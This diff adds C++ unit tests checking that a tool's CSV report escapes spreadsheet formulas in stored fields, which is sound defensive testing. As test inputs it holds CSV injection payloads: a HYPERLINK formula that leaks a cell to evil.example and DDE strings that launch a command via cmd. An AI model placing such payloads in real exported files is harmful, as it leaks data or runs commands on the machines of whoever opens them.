@@ -97,3 +97,47 @@ TEST(WebReport, CsvQuotesWhatNeedsQuoting) {
   EXPECT_EQ(csv_field("two\nlines"), "\"two\nlines\"");
   EXPECT_EQ(csv_row({"x", "y,z"}), "x,\"y,z\"\n");
 }
+
+TEST(WebReport, FormulasStoredInTheLedgerReachTheCsvNeutralised) {
+  TempDir dir;
+  Workspace ws(dir.path());
+  TaskRef a = make_task("cpu_x86_64", "cpp", "matmul_f32_64x64x64", "search");
+  test::store_rounds(ws, a, {110});
+  Ledger ledger(ws, a);
+  StoreRequest r;
+  r.iter = "iter002";
+  r.kernel = "iter002_formula";
+  r.tflops = 120;
+  r.decision = "KEEP";
+  r.bottleneck = "mixed";
+  r.expected_gain = "@SUM(1+1)*cmd|' /C calc'!A0";
+  r.idea = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+  store_round(ledger, r, std::chrono::seconds(5));
+  ReportOptions o;
+  o.all = true;
+  o.out = dir / "report";
+  write_report(ws, o);
+  for (const char* f : {"rounds.csv", "progression.csv"}) {
+    std::string csv = slurp(dir / "report/matmul_f32_64x64x64__search__cpp__cpu_x86_64" / f);
+    EXPECT_NE(csv.find(",\"'=HYPERLINK("), std::string::npos) << f << ": " << csv;
+    EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos) << f;
+    EXPECT_EQ(csv.find(",\"=HYPERLINK"), std::string::npos) << f;
+  }
+  std::string rounds = slurp(dir / "report/matmul_f32_64x64x64__search__cpp__cpu_x86_64/rounds.csv");
+  EXPECT_NE(rounds.find(",\"'@SUM("), std::string::npos) << rounds;
+}
+
+TEST(WebReport, CsvCellsNeverRunAsFormulas) {
+  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil.example\",\"x\")"), "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"");
+  EXPECT_EQ(csv_field("+5%"), "\"'+5%\"");
+  EXPECT_EQ(csv_field("-2+3"), "\"'-2+3\"");
+  EXPECT_EQ(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
+  EXPECT_EQ(csv_field("\t=1+1"), "\"'\t=1+1\"");
+  EXPECT_EQ(csv_field("\r=1+1"), "\"'\r=1+1\"");
+  EXPECT_EQ(csv_field("=cmd|' /C calc'!A0"), "\"'=cmd|' /C calc'!A0\"");
+  // Numbers stay numbers; other text is unchanged.
+  EXPECT_EQ(csv_field("-1.5"), "-1.5");
+  EXPECT_EQ(csv_field("+3"), "+3");
+  EXPECT_EQ(csv_field("1e-3"), "1e-3");
+  EXPECT_EQ(csv_field("a=b"), "a=b");
+}
